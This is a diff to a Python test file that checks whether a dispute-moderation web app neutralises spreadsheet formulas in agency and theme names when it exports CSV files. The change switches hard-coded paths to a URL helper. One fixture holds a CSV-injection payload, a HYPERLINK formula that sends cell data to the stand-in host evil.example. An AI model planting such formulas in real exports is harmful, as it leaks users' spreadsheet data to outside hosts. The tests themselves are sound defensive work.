@@ -5,7 +5,7 @@ import io
 
 from moderation.models import Agency, Dispute, LearningTheme
 from moderation.web.csv_safe import csv_text, neutralise
-from tests.conftest import post
+from tests.conftest import post, url
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
@@ -21,11 +21,12 @@ def _rename_agency(client, app, db, dispute_id):
     """An agency manager renames the dispute's referring agency, through the admin page."""
     with app.app_context():
         agency = db.session.get(Dispute, dispute_id).referring_agency
-        url, kind = f"/admin/agencies/{agency.id}/edit", agency.kind
-    response = post(client, url, {"name": FORMULA, "kind": kind})
+        agency_id, kind = agency.id, agency.kind
+    response = post(client, url(app, "admin.agency_edit", agency_id=agency_id),
+                    {"name": FORMULA, "kind": kind})
     assert response.status_code == 302
     with app.app_context():
-        assert db.session.get(Agency, agency.id).name == FORMULA
+        assert db.session.get(Agency, agency_id).name == FORMULA
 
 
 def test_a_formula_in_an_agency_name_comes_out_of_the_queue_as_text(
@@ -33,7 +34,7 @@ def test_a_formula_in_an_agency_name_comes_out_of_the_queue_as_text(
     [dispute_id] = queue_disputes({})
     signed_in("chair", "partnership_manager")
     _rename_agency(client, app, db, dispute_id)
-    cells = _cells(client.get("/queue.csv"))
+    cells = _cells(client.get(url(client, "disputes.panel_queue_csv")))
     assert f"'{FORMULA}" in cells
     assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
 
@@ -47,7 +48,7 @@ def test_formulas_in_agency_and_theme_names_come_out_of_the_export_as_text(
         theme = db.session.query(LearningTheme).filter_by(name="Threshold interpretation").one()
         theme.name = "+SUM(1+1)"
         db.session.commit()
-    cells = _cells(client.get("/outcomes/export.csv?start=2026-11-01&end=2026-12-31"))
+    cells = _cells(client.get(url(client, "outcomes.export", start="2026-11-01", end="2026-12-31")))
     assert cells.count(f"'{FORMULA}") == 3  # the three decided disputes' referring agency
     assert [cell for cell in cells if "SUM(1+1)" in cell]
     assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
